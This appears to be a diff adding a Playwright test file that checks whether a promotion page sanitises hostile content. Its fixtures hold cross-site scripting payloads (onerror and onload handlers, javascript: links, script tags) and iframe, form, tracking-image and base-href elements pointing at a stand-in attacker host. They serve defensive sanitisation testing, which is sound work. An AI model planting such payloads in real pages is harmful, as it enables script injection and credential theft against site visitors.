@@ -1,0 +1,86 @@
+import { ROUTES } from '@/lib/shared/routes';
+import { violationsOf } from '../support/axe';
+import { expect, test } from '../support/test';
+
+const CONTENT = `
+  <h1 id="content" onclick="alert(1)">Heading</h1>
+  <script>document.title='owned'</script><style>body{display:none}</style>
+  <p style="position:fixed;inset:0;background:red" class="x">A <b onmouseover=alert(1)>bold</b> word</p>
+  <img src=x onerror=alert(1)><img src="javascript:alert(1)"><img src="http://evil.example/track.gif">
+  <svg onload=alert(1)><a href="javascript:alert(1)">in a drawing</a></svg>
+  <iframe src="https://evil.example"></iframe><object data="https://evil.example"></object>
+  <form action="https://evil.example"><input name="password" placeholder="Password"><button>Send</button></form>
+  <a href="javascript:alert(1)">script link</a> <a href="//evil.example">bare link</a>
+  <a href="/m/news?token=stolen">our news</a> <a href="https://partner.example/">partner</a>
+  <table><tr><th>${'wide'.repeat(60)}</th><td>cell</td></tr></table>
+  <p>${'long'.repeat(200)}</p></div></main></body><base href="https://evil.example/">`;
+
+const HOSTILE = '</title><script>alert(1)</script>"><img src=x onerror=alert(1)>\u2028';
+
+// Each test has an id of its own: the site keeps answers for a minute.
+test.beforeEach(async ({ merchant }) => {
+  const value = {
+    id: 42,
+    title: HOSTILE,
+    content: CONTENT,
+    image: 'javascript:alert(1)',
+    startsAt: {},
+    endsAt: 'x',
+  };
+  await merchant.has({ kind: 'answer', path: '/wps/relay/PROMOFE_getPromotion', value });
+});
+
+test('hostile content shows its words and nothing dangerous, and violates no policy (R9, SEC-75)', async ({
+  page,
+  visitor,
+  complaints,
+}) => {
+  const dialogs: string[] = [];
+  page.on('dialog', (dialog) => {
+    dialogs.push(dialog.message());
+    void dialog.dismiss();
+  });
+  const asked: string[] = [];
+  page.on('request', (request) => asked.push(request.url()));
+  const answer = await visitor.opens(`${ROUTES.activity}?id=9001`);
+  expect(answer?.status()).toBe(200);
+  const article = page.getByRole('article');
+  await expect(article.getByRole('heading', { level: 1 })).toContainText('<script>alert(1)</script>');
+  await expect(article.getByRole('heading', { level: 2, name: 'Heading' })).toBeVisible();
+  await expect(article.getByText('A bold word')).toBeVisible();
+  const bad =
+    'script, style, svg:not([aria-hidden]), iframe, object, form, input, base, [onclick], [onerror], [style], [id]';
+  await expect(article.locator(bad)).toHaveCount(0);
+  await expect(article.locator('a[href*="script:"], a[href^="//"], a[href*="token"]')).toHaveCount(0);
+  expect(
+    await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth),
+  ).toBeLessThanOrEqual(0);
+  expect(asked.filter((url) => url.includes('evil.example'))).toEqual([]);
+  expect(dialogs).toEqual([]);
+  expect(complaints.heard()).toEqual([]);
+  expect(await violationsOf(page)).toEqual([]);
+});
+
+test('links inside stay inside, links outside open apart (R9, RR12)', async ({
+  page,
+  visitor,
+  merchant,
+  say,
+}) => {
+  await visitor.opens(`${ROUTES.activity}?id=9002&cid=7`);
+  const partner = page.getByRole('link', { name: 'partner' });
+  await expect(partner).toHaveAttribute('rel', 'noopener noreferrer nofollow ugc');
+  await expect(partner).toHaveAttribute('target', '_blank');
+  await page.getByRole('link', { name: 'our news' }).click();
+  await expect(page).toHaveURL(merchant.url(`${ROUTES.news}?cid=7`));
+  await expect(page.getByRole('heading', { level: 1 })).toHaveText(say('news.title'));
+});
+
+test('a wide table scrolls in its own box, which the keyboard reaches', async ({ page, visitor, say }) => {
+  await visitor.opens(`${ROUTES.activity}?id=9003`);
+  const box = page.getByRole('group', { name: say('promo.table') });
+  await box.focus();
+  await expect(box).toBeFocused();
+  await page.keyboard.press('ArrowRight');
+  await expect.poll(() => box.evaluate((node) => node.scrollLeft)).toBeGreaterThan(0);
+});
